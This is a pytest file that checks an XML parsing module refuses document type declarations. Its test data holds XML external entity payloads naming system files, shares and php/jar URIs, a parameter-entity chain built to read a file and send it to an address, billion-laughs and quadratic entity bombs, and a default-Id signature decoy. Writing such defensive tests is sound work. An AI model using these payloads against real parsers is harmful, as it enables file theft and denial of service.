"""Rows X-01 to X-07: a document type declaration is refused before any parser sees it."""

from __future__ import annotations

import socket
from pathlib import Path

import pytest

from sozialclient.wire.xml import XmlDoctypeError, XmlEncodingError, parse_xml
from tests.hostile.doctypes import EIGHT, Doctype, Parsers, visitors
from tests.hostile.expect import refused
from tests.hostile.rows import guarded_by
from tests.pace import within

SMALL = b"<a></a>"
IN_FRONT = {
    "nothing": b"",
    "white space": b" \r\n\t",
    "declaration": b'<?xml version="1.0" encoding="UTF-8"?>\n',
    "comment": b"<!-- <a> -->",
    "instruction": b"<?p q?>",
    "all of it": b'<?xml version="1.0"?><!-- x --><?p q?>\r\n<!-- <a/> -->',
    "byte order mark": b"\xef\xbb\xbf",
}


@guarded_by("sozialclient.wire.xml._refuse_doctype")
@pytest.mark.parametrize("before", IN_FRONT.values(), ids=IN_FRONT)
@pytest.mark.parametrize("word", [b"DOCTYPE", b"doctype"])
def test_x_01_doctype_is_refused(before: bytes, word: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    """A document type declaration, whatever stands before it, is refused by its name before any parser starts."""
    parsers = Parsers(monkeypatch)
    with refused(XmlDoctypeError):
        parse_xml(before + b"<!" + word + b" a><a/>")
    assert parsers.started == []


@guarded_by("sozialclient.wire.xml._utf8")
@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"])
def test_x_01b_doctype_in_utf_16_is_refused(encoding: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A declaration hidden in UTF-16 or UTF-32 is refused for its encoding before any parser starts."""
    parsers = Parsers(monkeypatch)
    with refused(XmlEncodingError):
        parse_xml("<!DOCTYPE a><a/>".encode(encoding))
    assert parsers.started == []


@guarded_by("sozialclient.wire.xml._count", "sozialclient.wire.xml._Counter.doctype")
@pytest.mark.parametrize("name", EIGHT)
def test_x_01c_doctype_stops_the_counting_pass(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A declaration that got past the look at the prolog is stopped by expat before libxml2 starts."""
    monkeypatch.setattr("sozialclient.wire.xml._refuse_doctype", lambda data: None)
    parsers = Parsers(monkeypatch)
    with refused(XmlDoctypeError):
        parse_xml(EIGHT[name].put_into(SMALL))
    assert parsers.started == ["expat"]


@guarded_by("sozialclient.wire.xml.parse_xml")
@pytest.mark.parametrize("name", ["X-01 alone", "X-02 file", "X-03 parameter entity", "X-06 default Id"])
def test_x_01d_doctype_never_leaves_the_door(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Even with both looks beforehand asleep, no tree that was made under a declaration is given out."""
    monkeypatch.setattr("sozialclient.wire.xml._refuse_doctype", lambda data: None)
    monkeypatch.setattr("sozialclient.wire.xml._count", lambda data, limits: None)
    with refused(XmlDoctypeError):
        parse_xml(EIGHT[name].put_into(SMALL))


@guarded_by("sozialclient.wire.xml._refuse_doctype")
@pytest.mark.parametrize("uri", [
    "file:///c:/windows/win.ini",
    "file://host/share/x",
    "\\\\host\\share\\x",
    "http://127.0.0.1:{port}/x",
    "ftp://127.0.0.1:{port}/x",
    "php://filter/read=convert.base64-encode/resource=x",
    "jar:http://127.0.0.1:{port}/x.jar!/y",
    "{canary}",
])
@pytest.mark.parametrize("form", [
    '<!DOCTYPE a SYSTEM "{uri}"><a/>',
    '<!DOCTYPE a PUBLIC "-//x" "{uri}"><a/>',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "{uri}">]><a>&x;</a>',
])
def test_x_02_external_entity_opens_nothing(
    uri: str, form: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An entity or a declaration that names a file, a share or an address is refused, and nobody is asked for it."""
    parsers = Parsers(monkeypatch)
    with visitors() as seen:
        named = uri.format(port=seen.port, canary=_canary(tmp_path).as_uri())
        with refused(XmlDoctypeError):
            parse_xml(form.replace("{uri}", named).encode())
        _reachable(seen.port)
    assert seen.count == 1
    assert parsers.started == []


@guarded_by("sozialclient.wire.xml.parse_xml")
def test_x_02b_external_entity_is_not_loaded_by_libxml2_either(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the looks beforehand asleep, libxml2 itself opens neither the file nor the address that is named."""
    monkeypatch.setattr("sozialclient.wire.xml._refuse_doctype", lambda data: None)
    monkeypatch.setattr("sozialclient.wire.xml._count", lambda data, limits: None)
    parsers = Parsers(monkeypatch)
    with visitors() as seen:
        for uri in (_canary(tmp_path).as_uri(), f"http://127.0.0.1:{seen.port}/x", str(tmp_path / "absent")):
            for form in ('<!DOCTYPE a [<!ENTITY x SYSTEM "%s">]><a b="1">&x;</a>', '<!DOCTYPE a SYSTEM "%s"><a/>'):
                with refused(XmlDoctypeError):
                    parse_xml((form % uri).encode())
        _reachable(seen.port)
    assert seen.count == 1
    assert (parsers.started, parsers.loads) == (["libxml2"] * 6, [])


@guarded_by("sozialclient.wire.xml._refuse_doctype")
@pytest.mark.parametrize("form", [
    '<!DOCTYPE a [<!ENTITY % d SYSTEM "http://127.0.0.1:{port}/x.dtd"> %d;]><a/>',
    '<!DOCTYPE a [<!ENTITY % f SYSTEM "{canary}"><!ENTITY % d SYSTEM "http://127.0.0.1:{port}/?x=%f;"> %d;]><a>&s;</a>',
    '<!DOCTYPE a SYSTEM "http://127.0.0.1:{port}/x.dtd" [<!ENTITY % f SYSTEM "{canary}">]><a>&s;</a>',
])
def test_x_03_parameter_entity_sends_nothing_out(
    form: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A parameter entity meant to read a file and carry it to an address outside is refused; no connection is made."""
    parsers = Parsers(monkeypatch)
    with visitors() as seen:
        data = form.replace("{port}", str(seen.port)).replace("{canary}", _canary(tmp_path).as_uri())
        with refused(XmlDoctypeError):
            parse_xml(data.encode())
        _reachable(seen.port)
    assert seen.count == 1
    assert parsers.started == []


@guarded_by("sozialclient.wire.xml._refuse_doctype")
@pytest.mark.parametrize("name", ["X-04 text", "X-04 attribute"])
def test_x_04_internal_entity_is_refused(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """An entity of the document's own, in a text or in an attribute, neither vanishes from the value nor fills it."""
    parsers = Parsers(monkeypatch)
    with refused(XmlDoctypeError):
        parse_xml(EIGHT[name].put_into(SMALL))
    assert parsers.started == []


@guarded_by("sozialclient.wire.xml._refuse_doctype", "sozialclient.wire.xml._Counter.doctype")
@pytest.mark.parametrize("asleep", [False, True], ids=["prolog", "expat"])
@pytest.mark.parametrize("doctype", [
    EIGHT["X-05 laughs"],
    EIGHT["X-05 quadratic"],
    Doctype(EIGHT["X-05 laughs"].declaration, b'<x b="&l9;"></x>'),
], ids=["laughs", "quadratic", "attribute"])
def test_x_05_entity_bomb_is_not_expanded(doctype: Doctype, asleep: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    """Entities that would unfold to gigabytes are refused by their declaration, before one of them is expanded."""
    if asleep:
        monkeypatch.setattr("sozialclient.wire.xml._refuse_doctype", lambda data: None)
    parsers = Parsers(monkeypatch)
    with refused(XmlDoctypeError):
        within(10, lambda: parse_xml(doctype.put_into(SMALL)))
    assert set(parsers.started) == ({"expat"} if asleep else set())


@guarded_by("sozialclient.wire.xml._refuse_doctype")
def test_x_06_default_id_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """A declaration that would give a decoy element the Id of the signed body is refused before any parser starts."""
    parsers = Parsers(monkeypatch)
    with refused(XmlDoctypeError):
        parse_xml(EIGHT["X-06 default Id"].put_into(b'<a><Body Id="body">signed</Body></a>'))
    assert parsers.started == []


@guarded_by("sozialclient.wire.xml._refuse_doctype")
@pytest.mark.parametrize(("data", "value"), [
    (b"<a><![CDATA[<!DOCTYPE a>]]></a>", "<!DOCTYPE a>"),
    (b"<!-- <!DOCTYPE a> --><a>x</a>", "x"),
    (b"<a>x<!-- <!DOCTYPE a> --></a>", "x"),
    (b"<a>&lt;!DOCTYPE a></a>", "<!DOCTYPE a>"),
    (b"<a b='&lt;!DOCTYPE'>x</a>", "x"),
    (b"<?p <!DOCTYPE a> ?><a>x</a>", "x"),
])
def test_x_07_the_word_alone_is_no_doctype(data: bytes, value: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The word in a comment, an instruction, a CDATA section or a value is accepted; a real one behind it is not."""
    assert parse_xml(data).text == value
    parsers = Parsers(monkeypatch)
    with refused(XmlDoctypeError):
        parse_xml(b"<!-- <!DOCTYPE a> --><?p <!DOCTYPE a> ?><!DOCTYPE a>" + data)
    assert parsers.started == []


def _canary(folder: Path) -> Path:
    file = folder / "canary.txt"
    file.write_bytes(b"a file of ours")
    return file


def _reachable(port: int) -> None:
    """One connection of the test's own, which shows that the others would have been counted."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
        assert connection.recv(1) == b""
